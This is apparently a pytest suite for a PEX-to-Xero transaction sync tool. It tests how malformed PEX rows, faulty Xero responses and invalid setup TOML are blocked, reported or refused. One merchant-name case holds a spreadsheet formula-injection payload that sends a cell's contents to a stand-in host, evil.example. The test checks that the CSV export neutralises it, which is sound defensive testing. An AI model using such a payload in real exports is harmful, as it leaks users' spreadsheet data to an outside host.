"""Bad input from outside, table-driven: PEX rows, setup TOML, Xero answers.

Every bad PEX row planted in the PEX double gets one status with a reason naming the field (or, without a usable
TransactionId, is reported by the client); the demo business's own transactions keep exactly the statuses they
had; a sync then writes the good rows once and nothing of the bad ones. Bad Xero answers come from the Xero
double's fault switches and end as a clear error or a clear item status, never as a half-written record.
"""

from __future__ import annotations

import io
import json
from dataclasses import dataclass, field
from datetime import datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, Callable, Optional

import pytest

from pexxero.models import BLOCKED, NEW, SKIPPED, marker
from pexxero.clients.pex_rows import BadPexRow, parse_transaction, read_rows
from pexxero.sandbox import demo
from pexxero.sync import run_sync
from sandbox_env import SandboxEnv, open_sandbox

CORPUS = Path(__file__).parent / "corpus"
FIRST_ID = 900_000_001
DELETE = object()  # a change that removes the field


@dataclass(frozen=True)
class Case:
    name: str
    changes: dict[str, Any]  # field -> new value (DELETE removes it)
    status: Optional[str]  # None: not in the preview at all (no usable TransactionId), reported instead
    reason: str = ""  # a fragment the reason (or the report) must contain
    written_total: Optional[str] = None  # for a row that is written: the Xero total
    check: Optional[Callable[[dict], None]] = None  # more about the written Xero record


LONG_NAME = "Hardware Emporium of the Greater Metropolitan Area " * 7  # 357 characters
NON_LATIN = "東京ラーメン Ёлка Ψαροταβέρνα 🍜"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
BROKEN_SPLIT = '{"TagId":"%s","Amount":"10.00","Allocation":[{"TagId":"' % demo.SPLIT_TAG_ID
NO_AMOUNT_SPLIT = json.dumps({"TagId": demo.SPLIT_TAG_ID, "Allocation": [{"TagId": demo.EXPENSE_TYPE_TAG_ID,
                                                                         "Value": "x"}]})


def _tags(value) -> dict:
    return {"Tags": [{"FieldId": demo.SPLIT_TAG_ID, "Name": "Split", "Value": value}]}


def _contact(expected: str) -> Callable[[dict], None]:
    def check(record: dict) -> None:
        assert record["Contact"]["Name"] == expected

    return check


def _description(record: dict, expected: str) -> None:
    assert [line["Description"] for line in record["LineItems"]] == [expected]


CASES = [
    # amounts
    Case("amount missing", {"TransactionAmount": DELETE}, BLOCKED, "TransactionAmount is missing"),
    Case("amount null", {"TransactionAmount": None}, BLOCKED, "TransactionAmount is missing"),
    Case("amount text", {"TransactionAmount": "twelve"}, BLOCKED, "TransactionAmount 'twelve' is not an amount"),
    Case("amount boolean", {"TransactionAmount": True}, BLOCKED, "TransactionAmount True is not an amount"),
    Case("amount list", {"TransactionAmount": [1, 2]}, BLOCKED, "TransactionAmount [1, 2] is not an amount"),
    Case("amount NaN", {"TransactionAmount": "NaN"}, BLOCKED, "TransactionAmount 'NaN' is not an amount"),
    Case("amount Infinity", {"TransactionAmount": "-Infinity"}, BLOCKED, "is not an amount"),
    Case("amount zero", {"TransactionAmount": Decimal("0.00")}, BLOCKED, "amount is 0.00"),
    Case("amount negative zero", {"TransactionAmount": "-0"}, BLOCKED, "amount is 0.00"),
    Case("amount many decimals", {"TransactionAmount": Decimal("-12.3456789")}, BLOCKED,
         "more than two decimal places"),
    Case("amount sub-cent", {"TransactionAmount": Decimal("-0.001")}, BLOCKED, "more than two decimal places"),
    Case("amount trailing zeros", {"TransactionAmount": Decimal("-12.5000")}, NEW, written_total="12.50"),
    Case("amount as text", {"TransactionAmount": "-33.10"}, NEW, written_total="33.10"),
    Case("amount in exponent form", {"TransactionAmount": "-1.25E+1"}, NEW, written_total="12.50"),
    Case("amount huge", {"TransactionAmount": Decimal("-987654321.99")}, NEW, written_total="987654321.99"),
    Case("amount positive purchase (refund)", {"TransactionAmount": Decimal("15.00")}, NEW, written_total="15.00"),
    # kinds
    Case("unknown category", {"TransactionType": "Transfer", "TransactionTypeCategory": "MysteryMoney"}, SKIPPED,
         "MysteryMoney"),
    Case("unknown transaction type number", {"TransactionType": 99}, SKIPPED, "99"),
    Case("transaction type object", {"TransactionType": {"x": 1}}, BLOCKED, "TransactionType is an object"),
    # merchant names
    Case("merchant 357 characters", {"MerchantName": LONG_NAME, "MerchantNameNormalized": LONG_NAME}, NEW,
         written_total="42.17", check=_contact(" ".join(LONG_NAME.split())[:255].strip())),
    Case("merchant 100,000 characters", {"MerchantName": "M" * 100_000, "MerchantNameNormalized": "M" * 100_000},
         NEW, "the contact name was cut from 100,000 to 255 characters", written_total="42.17",
         check=_contact("M" * 255)),
    Case("description 100,000 characters", {"Description": "D" * 100_000}, NEW,
         "the description was cut from 100,000 to 4,000 characters (Xero's limit)", written_total="42.17",
         check=lambda record: _description(record, "D" * 4000)),
    Case("merchant non-Latin", {"MerchantName": NON_LATIN, "MerchantNameNormalized": NON_LATIN}, NEW,
         written_total="42.17", check=_contact(NON_LATIN)),
    Case("merchant formula", {"MerchantName": FORMULA, "MerchantNameNormalized": FORMULA}, NEW,
         written_total="42.17", check=_contact(FORMULA)),
    Case("merchant null (the setup's single contact)", {"MerchantName": None, "MerchantNameNormalized": None},
         NEW, written_total="42.17"),
    Case("merchant object", {"MerchantName": {"Name": "x"}}, BLOCKED, "MerchantName is an object, not text"),
    Case("description list", {"Description": ["a"]}, BLOCKED, "Description is a list, not text"),
    # tags and splits
    Case("split JSON broken", {"TransactionTags": _tags(BROKEN_SPLIT)}, BLOCKED,
         "tag Split holds a split whose JSON cannot be read"),
    Case("split without amount", {"TransactionTags": _tags(NO_AMOUNT_SPLIT)}, BLOCKED,
         "tag Split holds a split without an Amount"),
    Case("split amount text", {"TransactionTags": _tags({"TagId": demo.SPLIT_TAG_ID, "Amount": "lots",
                                                         "Allocation": []})}, BLOCKED, "Amount 'lots' is not a number"),
    Case("split allocation not a list", {"TransactionTags": _tags({"TagId": demo.SPLIT_TAG_ID, "Amount": "42.17",
                                                                   "Allocation": "all"})}, BLOCKED,
         "Allocation is not a list"),
    Case("tags are text", {"TransactionTags": "EXPENSE TYPE=429"}, BLOCKED, "TransactionTags is text"),
    Case("tags list of numbers", {"TransactionTags": {"Tags": [1, 2]}}, BLOCKED, "tag 1 is a number"),
    Case("unknown tag id", {"TransactionTags": {"Tags": [{"FieldId": "no-such-tag", "Name": "MOOD",
                                                          "Value": "happy"}]}}, NEW, written_total="42.17"),
    Case("notes not a list", {"TransactionNotes": "hello"}, BLOCKED, "TransactionNotes is not a list"),
    # dates
    Case("date US format", {"TransactionTime": "03/15/2024 11:30:00"}, BLOCKED,
         "TransactionTime '03/15/2024 11:30:00' is not a date and time"),
    Case("date words", {"TransactionTime": "yesterday", "SettlementTime": "yesterday"}, BLOCKED,
         "TransactionTime 'yesterday' is not a date and time"),
    Case("date a number", {"TransactionTime": 1710513000}, BLOCKED, "TransactionTime is a number"),
    Case("settlement date broken", {"SettlementTime": "2024-13-45T99:00:00"}, BLOCKED, "SettlementTime"),
    # flags and ids
    Case("pending as text false", {"IsPending": "false"}, NEW, written_total="42.17"),
    Case("pending as text maybe", {"IsPending": "maybe"}, BLOCKED, "IsPending 'maybe' is not true or false"),
    Case("decline as number 2", {"IsDecline": 2}, BLOCKED, "IsDecline 2 is not true or false"),
    Case("account id text", {"AcctId": "abc"}, BLOCKED, "AcctId 'abc' is not a whole number"),
    Case("auth id fraction", {"AuthTransactionId": Decimal("1.5")}, BLOCKED, "AuthTransactionId"),
    # not identifiable: reported by the client, not shown
    Case("id missing", {"TransactionId": DELETE}, None, "TransactionId is missing"),
    Case("id text", {"TransactionId": "abc"}, None, "TransactionId 'abc' is not a whole number"),
    Case("id fraction", {"TransactionId": Decimal("12.5")}, None, "TransactionId"),
]


def _base_row(env: SandboxEnv, tx_id: int) -> dict:
    """A plain settled purchase of yesterday, as the demo's rows are built."""
    rows = env.pex.transactions["cardholder"]
    when = datetime.combine(env.today - timedelta(days=1), time(11, 30))
    merchant = "Corner Hardware"
    return demo._pex_row(rows[0]["AcctId"], "Network", "Spend", Decimal("-42.17"), when, merchant,
                         TransactionId=tx_id, MerchantName=merchant, MerchantNameNormalized=merchant,
                         AuthTransactionId=demo.AUTH_TX_BASE + tx_id)


def _planted(env: SandboxEnv, number: int, case: Case) -> dict:
    row = _base_row(env, FIRST_ID + number)
    for key, value in case.changes.items():
        if value is DELETE:
            row.pop(key, None)
        else:
            row[key] = value
    return row


@dataclass
class Outcome:
    env: SandboxEnv
    before: dict[int, str]  # the demo's own statuses before anything was planted
    frame: Any  # the preview with the bad rows in it
    rejected: list[str]
    run: dict
    csv: str
    references: Any = field(default=None)


@pytest.fixture(scope="module")
def outcome(tmp_path_factory) -> Outcome:
    with open_sandbox(tmp_path_factory.mktemp("bad_pex")) as env:
        before = _statuses(env.conn.preview().frame)
        for number, case in enumerate(CASES):
            env.pex.transactions["cardholder"].append(_planted(env, number, case))
        env.pex.transactions["cardholder"].append("not a row at all")
        env.expire_pex_cache()
        frame = env.conn.preview().frame
        buffer = io.StringIO()
        again = env.conn.preview(refresh=False)  # the rows PEX sent unreadable are still reported from the store
        again.to_csv(buffer)
        rejected = again.rejected
        run = run_sync(env.conn)
        yield Outcome(env, before, frame, rejected, run, buffer.getvalue(), env.references())


def _statuses(frame) -> dict[int, str]:
    shown = frame[frame["pex_id"].notna()]
    return {int(r.pex_id): r.status for r in shown.itertuples()}


@pytest.mark.parametrize("number,case", list(enumerate(CASES)), ids=[c.name for c in CASES])
def test_each_bad_pex_row_gets_one_status_naming_the_field(outcome, number, case):
    tx_id = FIRST_ID + number
    rows = outcome.frame[outcome.frame["pex_id"] == tx_id]
    if case.status is None:
        assert rows.empty
        assert any(case.reason in message for message in outcome.rejected), outcome.rejected
        return
    assert len(rows) == 1, f"{case.name}: {len(rows)} preview rows"
    row = rows.iloc[0]
    assert row["status"] == case.status, f"{case.name}: {row['status']} — {row['reason']}"
    assert case.reason in row["reason"], row["reason"]
    if case.status == BLOCKED and case.reason:
        assert f"transaction {tx_id}" in row["reason"] or "amount" in row["reason"] or "merchant" in row["reason"]


@pytest.mark.parametrize("number,case", list(enumerate(CASES)), ids=[c.name for c in CASES])
def test_sync_writes_good_rows_once_and_nothing_of_bad_ones(outcome, number, case):
    ref = marker(FIRST_ID + number)
    if case.written_total is None:
        assert outcome.references[ref] == 0, f"{case.name} was written"
        return
    assert outcome.references[ref] == 1, f"{case.name}: {outcome.references[ref]} records"
    (record,) = [t for t in outcome.env.xero.bank_transactions(outcome.env.tenant_id) if t.get("Reference") == ref]
    assert Decimal(str(record["Total"])) == Decimal(case.written_total)
    if case.check:
        case.check(record)


def test_the_demo_rows_keep_their_statuses(outcome):
    after = _statuses(outcome.frame)
    changed = {i: (s, after.get(i)) for i, s in outcome.before.items() if after.get(i) != s}
    assert not changed, changed


def test_a_row_that_is_not_an_object_is_reported(outcome):
    assert any("not an object" in m and "text" in m for m in outcome.rejected), outcome.rejected


def test_the_run_goes_on_and_says_so(outcome):
    assert outcome.run["status"] in ("succeeded", "partial"), outcome.run
    assert not outcome.env.duplicates()


def test_formula_names_are_neutralised_in_the_csv(outcome):
    assert "'" + FORMULA.replace('"', '""') in outcome.csv
    assert "\n" + FORMULA not in outcome.csv and "," + FORMULA not in outcome.csv


def test_every_planted_row_has_exactly_one_status(outcome):
    shown = outcome.frame[outcome.frame["pex_id"] >= FIRST_ID]
    assert shown["pex_id"].is_unique
    identifiable = sum(1 for c in CASES if c.status is not None)
    assert len(shown) == identifiable


# ------------------------------------------------------------------------- the parser alone (no network)

def test_parse_transaction_is_strict_and_read_rows_is_not():
    good = {"TransactionId": 1, "TransactionAmount": Decimal("-1.00"), "TransactionTime": "2024-03-15T10:00:00",
            "TransactionType": "Network"}
    bad = dict(good, TransactionId=2, TransactionAmount="x")
    with pytest.raises(BadPexRow) as raised:
        parse_transaction(bad, "cardholder")
    assert raised.value.field == "TransactionAmount" and "transaction 2" in str(raised.value)
    fallback = datetime(2024, 3, 31)
    parsed, rejected = read_rows([good, bad, {"TransactionAmount": 1}, 7], "cardholder", fallback)
    assert [t.transaction_id for t in parsed] == [1, 2]
    assert parsed[0].problem == "" and "TransactionAmount 'x'" in parsed[1].problem
    assert parsed[1].amount == 0 and parsed[1].transaction_time == datetime(2024, 3, 15, 10)
    assert len(rejected) == 2 and "row 3" in rejected[0] and "row 4" in rejected[1]


def test_corpus_files_parse_to_a_status_or_a_report():
    """Every JSON file in tests/corpus/ holds rows; none may raise out of read_rows."""
    files = sorted(CORPUS.glob("pex_*.json"))
    assert files
    total = 0
    for path in files:
        rows = json.loads(path.read_text(encoding="utf-8"), parse_float=Decimal)
        parsed, rejected = read_rows(rows, "cardholder", datetime(2024, 3, 31))
        assert len(parsed) + len(rejected) == len(rows), path.name
        assert all(t.problem or t.amount for t in parsed)  # a placeholder always says why
        total += len(rows)
    assert total >= 10


# ------------------------------------------------------------------------------------------ bad Xero answers

def _quick_retries(env: SandboxEnv) -> None:
    env.conn.xero()._runner.sleep = lambda seconds: None  # retries without waiting: the fault is what is tested


XERO_READ_FAULTS = [
    # fault, times, what the preview does
    ("odd_shape", 1, "Unexpected answer from Xero: no BankTransactions list in it"),
    ("html_503", 6, "Xero is unavailable"),
    ("truncated_json", 6, "Xero is unavailable: an unreadable answer"),
    ("empty_200", 6, "Xero is unavailable: an unreadable answer"),
    ("truncated_json", 1, None),  # once: the retry reads it
    ("empty_200", 1, None),
    ("html_503", 1, None),
]


@pytest.mark.parametrize("fault,times,message", XERO_READ_FAULTS,
                         ids=[f"{f}x{n}" for f, n, _ in XERO_READ_FAULTS])
def test_a_bad_xero_answer_to_a_read_is_a_clear_error_not_an_empty_book(sandbox, fault, times, message):
    from pexxero.clients.xero import XeroError

    _quick_retries(sandbox)
    sandbox.xero.faults.queue(fault, method="GET", path_contains="BankTransactions", count=times)
    writes = sandbox.writes()
    if message is None:
        frame = sandbox.conn.preview().frame
        assert not sandbox.xero.faults.pending
        assert (frame["status"] == "synced").any()  # the seeded records were read, not missed
        return
    with pytest.raises(XeroError) as raised:
        sandbox.conn.preview()
    assert message in str(raised.value)
    assert not sandbox.xero.faults.pending
    assert sandbox.writes() == writes


XERO_WRITE_FAULTS = [(f, "BankTransactions") for f in ("empty_200", "odd_shape", "truncated_json", "html_503",
                                                        "missing_id")] + [("missing_id", "BankTransfers"),
                                                                          ("odd_shape", "BankTransfers")]


@pytest.mark.parametrize("fault,path", XERO_WRITE_FAULTS, ids=[f"{f}-{p}" for f, p in XERO_WRITE_FAULTS])
def test_a_bad_xero_answer_to_a_write_loses_nothing_and_duplicates_nothing(sandbox, fault, path):
    _quick_retries(sandbox)
    frame = sandbox.conn.preview().frame
    eligible = {marker(int(i)) for i in frame[frame["status"] == NEW]["pex_id"]}
    assert eligible
    sandbox.xero.faults.queue(fault, method="PUT", path_contains=path, count=1)
    first = run_sync(sandbox.conn)
    assert not sandbox.xero.faults.pending, "the fault never fired"
    assert first["status"] in ("succeeded", "partial", "failed"), first
    rerun = run_sync(sandbox.conn, retry_failed=first["status"] != "succeeded")
    assert rerun["status"] in ("succeeded", "partial"), rerun
    counts = sandbox.references()
    assert {ref: counts[ref] for ref in eligible if counts[ref] != 1} == {}
    assert not sandbox.duplicates()


# ------------------------------------------------------------------------------------------ bad setup TOML
# (tests/test_setup.py covers wrong types, unknown names and enum values; these are the rest)

from pexxero.setup import SetupError  # noqa: E402
from pexxero.setup_toml import from_toml, to_toml  # noqa: E402

BAD_TOML = [
    ("duplicate key", "[pex]\npurchases = true\npurchases = false\n", "", "line 3"),
    ("duplicate table", "[pex]\n[pex]\n", "", "twice"),
    ("array for a section", "pex = [1, 2]\n", "pex", "[table]"),
    ("nested unknown table", "[pex.extra]\na = 1\n", "pex.extra", "unknown setting"),
    ("NUL byte", "[pex]\npurchases = true\x00\n", "", "not valid TOML"),
    ("boolean for a date", "[pex]\nstart_date = true\n", "pex.start_date", "date"),
    ("year zero", '[pex]\nend_date = "0000-01-01"\n', "pex.end_date", "date"),
    ("float for an account code", "[accounts]\npex_cash = 91.0\n", "accounts.pex_cash", "text"),
    ("table for an account code", "[accounts]\npex_cash = {a = 1}\n", "accounts.pex_cash", "text"),
    ("list for tracking", '[purchases]\ntracking = ["a"]\n', "purchases.tracking", "table of names"),
    ("non-Latin unknown key", '[pex]\n"ståart" = 1\n', 'pex."ståart"', "unknown setting"),
]


@pytest.mark.parametrize("text,field_name,fragment", [c[1:] for c in BAD_TOML], ids=[c[0] for c in BAD_TOML])
def test_bad_setup_toml_is_refused_naming_the_field(text, field_name, fragment):
    with pytest.raises(SetupError) as caught:
        from_toml(text)
    assert [e.field for e in caught.value.errors] == [field_name]
    assert fragment in caught.value.errors[0].message


def test_a_byte_order_mark_is_not_an_error():
    assert from_toml("\ufeff[pex]\npurchases = false\n").pex.purchases is False


@pytest.mark.slow
def test_a_refused_config_import_leaves_the_stored_setup_as_it_was(sandbox, tmp_path):
    before = to_toml(sandbox.conn.setup())
    for number, (_, text, _, _) in enumerate(BAD_TOML + [("huge", '[accounts]\npex_cash = "' + "9" * 100_000 + '"\n',
                                                          "", "")]):
        bad = tmp_path / f"bad{number}.toml"
        bad.write_text(text, encoding="utf-8")
        done = sandbox.cli("config", "import", str(bad))
        assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    bad = tmp_path / "not-utf8.toml"
    bad.write_bytes(b"[pex]\npurchases = \xff\xfe\n")
    done = sandbox.cli("config", "import", str(bad))
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    assert to_toml(sandbox.conn.setup()) == before
